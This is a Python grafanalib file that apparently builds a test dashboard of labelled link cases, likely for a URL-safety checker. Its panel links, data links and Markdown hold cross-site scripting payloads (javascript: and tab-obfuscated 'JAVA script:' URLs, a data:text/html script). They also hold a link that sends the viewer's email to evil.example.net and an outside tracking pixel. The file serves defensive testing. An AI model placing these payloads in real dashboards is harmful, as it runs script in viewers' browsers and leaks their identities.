from grafanalib.core import Dashboard, DashboardLink, GridPos, Target, Text, TimeSeries

ON_VALUES = [
    {"title": "Allowed", "url": "https://wiki.example.com/x?who=${__field.labels.job}&${__url_time_range}"},
    {"title": "Ours", "url": "/d/demo--links?from=${__from}"},
    {"title": "Host of a value", "url": "https://${__field.labels.host}/x"},
    {"title": "Address of a value", "url": "${__data.fields.address}"},
    {"title": "No host named", "url": "//evil.example.net/x"},
]
dashboard = Dashboard(
    title="Links",
    uid="demo--links",
    panels=[
        TimeSeries(
            title="Requests",
            description="How many.",
            unit="reqps",
            gridPos=GridPos(x=0, y=0, w=24, h=8),
            targets=[Target(expr="sum(rate(requests_total[$__rate_interval]))")],
            links=[
                {"title": "Runs", "url": "javascript:alert(document.domain)"},
                {"title": "Runs as well", "url": " JAVA\tscript:alert(1)"},
                {"title": "A page in a link", "url": "data:text/html,<script>alert(1)</script>"},
                {"title": "Elsewhere", "url": "https://evil.example.net/?who=${__user.email}"},
            ],
            extraJson={"fieldConfig": {"defaults": {"links": ON_VALUES}}},
        ),
        Text(
            title="Words",
            gridPos=GridPos(x=0, y=8, w=24, h=4),
            content="""
                [Runs](javascript:alert(1)), [leads elsewhere](https://evil.example.com/x),
                [is ours](/d/demo--links)
                ![A picture](public/img/grafana_icon.svg) ![Somebody's](//evil.example.com/pixel.png)
            """,
        ),
    ],
    links=[DashboardLink(title="Head", type="link", uri="http://evil.example.org")],
)
